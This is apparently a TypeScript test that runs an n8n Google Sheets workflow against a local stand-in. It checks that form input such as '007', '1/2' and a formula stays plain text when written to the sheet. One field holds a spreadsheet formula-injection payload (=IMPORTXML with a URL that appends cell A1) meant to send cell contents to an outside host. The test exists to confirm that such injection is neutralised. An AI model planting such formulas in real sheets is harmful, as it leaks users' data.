import { interpret } from '../../sandbox/standIns/sheetCells';
import { SHEET_FIELDS } from './examples';
import type { Stage } from './prepare';
import type { Report } from './report';

/** Text that a visitor may enter in a form and that a spreadsheet would convert. */
const ENTERED = {
	name: 'Mallory',
	email: 'mallory@example.com',
	message: '=IMPORTXML("https://example.com/?"&A1;"//a")',
	phone: '007',
	reference: '1/2',
};

/** Runs n8n's own Google Sheets node against Google's host name; a stand-in on this machine answers. */
export async function fillSheet(stage: Stage, report: Report): Promise<void> {
	const { n8n, workflows, world, sheet } = stage;
	world.emulator.addSubmission({ formId: world.contact.id, data: ENTERED });
	const { id } = workflows['recent-submissions-to-google-sheets'];
	const run = async () => await n8n.executions.run(id, { trigger: 'Every morning' });

	const first = await run();
	report.check('First run ended with', 'success', first.error ?? first.status);
	const [head = [], ...rows] = sheet;
	const shown = ['formName', ...SHEET_FIELDS];
	const cellsOf = (row: unknown[]) =>
		shown.map((column) => {
			const cell = row[head.indexOf(column)] ?? '';
			return typeof cell === 'object' ? JSON.stringify(cell) : String(cell);
		});
	report.table(shown, rows.slice(-ROWS_SHOWN).map(cellsOf));
	const row = rows.find((cells) => cells[head.indexOf('email')] === ENTERED.email) ?? [];
	for (const field of ['message', 'phone', 'reference'] as const) {
		const cell = row[head.indexOf(field)];
		const stayed = cell === ENTERED[field] ? 'text' : JSON.stringify(cell);
		report.check(`${ENTERED[field]} stayed`, 'text', stayed);
		report.line(`  Typed into the sheet, it would have become ${madeOf(ENTERED[field])}`);
	}

	const second = await run();
	report.check('Second run ended with', 'success', second.error ?? second.status);
	report.check('Rows that it adds', '0', `${sheet.length - 1 - rows.length}`);
}

const ROWS_SHOWN = 4;

/** What Google Sheets makes of text typed into a cell. */
function madeOf(text: string): string {
	const cell = interpret(text, 'USER_ENTERED');
	if (typeof cell === 'object') return 'formula' in cell ? 'a formula that runs' : 'a date';
	return `the ${typeof cell} ${cell}`;
}
